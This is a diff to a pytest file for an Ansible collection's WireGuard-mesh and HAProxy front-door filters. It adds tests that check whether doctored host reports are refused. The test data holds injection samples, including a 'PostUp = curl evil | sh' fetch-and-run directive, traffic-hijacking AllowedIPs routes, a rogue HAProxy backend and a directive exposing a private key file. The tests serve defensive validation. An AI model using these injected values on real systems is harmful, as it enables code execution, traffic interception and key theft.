@@ -7,6 +7,8 @@ import sys
 
 from wrinklefree_lab.helpers import ROOT
 
+# The plugins import the collection's module_utils by FQCN (collections/ links back to ROOT).
+sys.path.insert(0, str(ROOT / "collections"))
 sys.path.insert(0, str(ROOT / "plugins" / "filter"))
 sys.path.insert(0, str(ROOT / "plugins" / "test"))
 
@@ -16,7 +18,7 @@ import yaml  # noqa: E402
 from base import base_rule_problems  # noqa: E402
 from bitnet import bitnet_cmake_args, bitnet_cpu_profile, bitnet_server_arg_problems, bitnet_server_args  # noqa: E402
 from fleet_status import fleet_status  # noqa: E402
-from frontdoor import frontdoor_servers  # noqa: E402
+from frontdoor import frontdoor_server_binds, frontdoor_servers  # noqa: E402
 from interface_name import interface_name  # noqa: E402
 from login_name import login_name  # noqa: E402
 from pip_lock import pip_lock_problems  # noqa: E402
@@ -28,6 +30,8 @@ from wireguard import (wireguard_addresses, wireguard_network_conflicts, wiregua
                        wireguard_route_conflicts)
 
 KNOWN = ["base_ssh_port", "base_admin_user", "base_firewall_allow"]
+# WireGuard public keys as `wg pubkey` prints them (44 characters of base64).
+KA, KB, KD = (letter * 42 + "A=" for letter in "abd")
 
 
 def test_known_and_foreign_names_pass():
@@ -75,11 +79,11 @@ def test_addresses_survive_adding_and_removing_hosts():
 
 
 def test_an_absent_hosts_address_is_held_until_it_is_released():
-    registry = {"a": {"address": "10.100.0.1", "public_key": "KA"}, "b": {"address": "10.100.0.2", "public_key": "KB"}}
+    registry = {"a": {"address": "10.100.0.1", "public_key": KA}, "b": {"address": "10.100.0.2", "public_key": KB}}
     # b is off (its server not `running`, so out of the inventory) while d joins: d never gets b's address.
     held = wireguard_addresses({"a": ["base"], "d": ["base"]}, PLAN, NET, registry)
     assert held == {"a": "10.100.0.1", "d": "10.100.0.3"}
-    assert wireguard_registry(held, {"a": {"public_key": "KA"}, "d": {"public_key": "KD"}}, registry)["b"] == registry["b"]
+    assert wireguard_registry(held, {"a": {"public_key": KA}, "d": {"public_key": KD}}, registry)["b"] == registry["b"]
     # Pinning another host onto it names the absent holder.
     with pytest.raises(AnsibleFilterError, match="duplicate address 10.100.0.2 for b .registered, absent"):
         wireguard_addresses({"a": ["base"], "d": ["base"]}, PLAN, NET, registry, pinned={"d": "10.100.0.2"})
@@ -89,11 +93,42 @@ def test_an_absent_hosts_address_is_held_until_it_is_released():
     assert "b" not in wireguard_registry(freed, {}, registry, ["b"])
 
 
+@pytest.mark.parametrize("report,problem", [
+    # A root attacker on the host makes `wg pubkey` print a wg-quick directive after the key...
+    ({"public_key": "a" * 42 + "A=\n[Interface]\nPostUp = curl evil | sh"}, "public_key 'aaaa"),
+    # ...or routes that take over every member's traffic.
+    ({"public_key": "a" * 42 + "A=\nAllowedIPs = 0.0.0.0/1,128.0.0.0/1"}, r"A=\\nAllowedIPs = 0"),
+    ({"public_key": "a" * 43 + "="}, "is not a WireGuard public key"),  # 44 characters, but not 32 bytes
+    ({"public_key": KA, "endpoint": "198.51.100.1:51820\nPostUp = id"}, "endpoint"),
+    ({"public_key": KA, "endpoint": "198.51.100.1:70000"}, "endpoint '198.51.100.1:70000' is not HOST:PORT"),
+    ({"public_key": KA, "interface": "wg0\nTable = off"}, "interface"),
+    ({"public_key": KA, "routes": ["0.0.0.0/0"]}, "unknown field routes"),
+], ids=["postup", "allowed-ips", "not-32-bytes", "endpoint-directive", "endpoint-port", "interface", "extra-field"])
+def test_a_doctored_report_is_refused_naming_its_host(report, problem):
+    with pytest.raises(AnsibleFilterError, match=f"the report of b is refused.*{problem}"):
+        wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2"}, {"a": {"public_key": KA}, "b": report})
+
+
+def test_good_reports_and_endpoints_pass():
+    reports = {"a": {"public_key": "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=", "endpoint": "[2001:db8::1]:51820",
+                     "interface": "wg-mesh.0"},
+               "b": {"public_key": KB, "endpoint": "edge-1.example.net:51820"},
+               "c": {"public_key": "", "endpoint": "198.51.100.3:51820"}}  # no key yet (check mode, new host)
+    mesh = wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2", "c": "10.100.0.3"}, reports)
+    assert sorted(mesh) == ["a", "b"] and mesh["a"]["endpoint"] == "[2001:db8::1]:51820"
+
+
+def test_a_doctored_registry_entry_is_refused():
+    with pytest.raises(AnsibleFilterError, match="the registry entry of b is refused: public_key"):
+        wireguard_registry({"a": "10.100.0.1"}, {"a": {"public_key": KA}},
+                           {"b": {"address": "10.100.0.2", "public_key": KB + "\nPostUp = id"}})
+
+
 def test_the_registry_records_each_members_interface():
-    old = {"a": {"address": "10.100.0.1", "public_key": "KA", "endpoint": "198.51.100.1:51820"}}
+    old = {"a": {"address": "10.100.0.1", "public_key": KA, "endpoint": "198.51.100.1:51820"}}
     now = wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2"},
-                             {"a": {"public_key": "KA", "interface": "wg1"}, "b": {"public_key": "KB", "interface": "wg0"}}, old)
-    assert now["a"] == {"address": "10.100.0.1", "public_key": "KA", "endpoint": "198.51.100.1:51820", "interface": "wg1"}
+                             {"a": {"public_key": KA, "interface": "wg1"}, "b": {"public_key": KB, "interface": "wg0"}}, old)
+    assert now["a"] == {"address": "10.100.0.1", "public_key": KA, "endpoint": "198.51.100.1:51820", "interface": "wg1"}
     # A member unreachable in this run keeps the interface it reported last.
     assert wireguard_registry({"a": "10.100.0.1"}, {}, now)["a"]["interface"] == "wg1"
 
@@ -319,6 +354,31 @@ def test_front_door_servers_from_facts():
     assert frontdoor_servers(facts, "m") == [{"name": "a", "address": "fd00::1", "port": 8081, "slots": 2, "auth": False},
                                             {"name": "b", "address": "10.100.0.2", "port": 8080, "slots": 4, "auth": True}]
     assert [s["slots"] for s in frontdoor_servers(facts, "m", 6)] == [6, 6]
+
+
+@pytest.mark.parametrize("fact,problem", [
+    # A newline and HAProxy directives after the address (finding 2 of the trust review).
+    ({"bind": "10.100.0.2:8080\n    http-request return status 200 file /etc/haproxy/frontdoor.pem\n#"}, "is not an IP address"),
+    ({"bind": "10.100.0.9"}, "bind 10.100.0.9 is not 10.100.0.2, where the controller knows"),
+    ({"bind": "10.100.0.2", "port": "8080\n    server evil 198.51.100.6:80"}, "must be numbers"),
+    ({"bind": "10.100.0.2", "port": 0}, "port 0 must be 1-65535"),
+], ids=["newline-in-bind", "another-address", "newline-in-port", "port-zero"])
+def test_a_base_hosts_doctored_fact_is_refused_naming_it(fact, problem):
+    facts = {"a": {"bind": "10.100.0.1", "models": [{"name": "m", "port": 8080}]},
+             "b": {"bind": fact["bind"], "models": [{"name": "m", "port": fact.get("port", 8080)}]}}
+    with pytest.raises(AnsibleFilterError, match=f"the bitnet fact of b is refused.*{re.escape(problem)}"):
+        frontdoor_servers(facts, "m", binds={"a": "10.100.0.1", "b": "10.100.0.2"})
+
+
+def test_the_controller_knows_where_each_base_host_listens():
+    hostvars = {"a": {"bitnet_server_bind": "10.0.0.5", "mesh_address": "10.100.0.1"},
+                "b": {"mesh_address": "10.100.0.2", "hetzner_private_ipv4": "10.0.0.6"},
+                "c": {"hetzner_private_ipv4": "10.0.0.7"}, "d": {}}
+    assert frontdoor_server_binds(hostvars, ["a", "b", "c", "d"]) == {"a": "10.0.0.5", "b": "10.100.0.2", "c": "10.0.0.7"}
+    # An IPv6 address matches however the host writes it.
+    facts = {"a": {"bind": "fd00:0::1", "auth": "yes", "models": [{"name": "m", "port": 8080}]}}
+    assert frontdoor_servers(facts, "m", binds={"a": "fd00::1"}) == [
+        {"name": "a", "address": "fd00::1", "port": 8080, "slots": 1, "auth": False}]
 
 
 HAPROXY_CSV = """# pxname,svname,qcur,qmax,scur,smax,slim,stot,bin,bout,dreq,dresp,ereq,econ,eresp,wretr,wredis,status
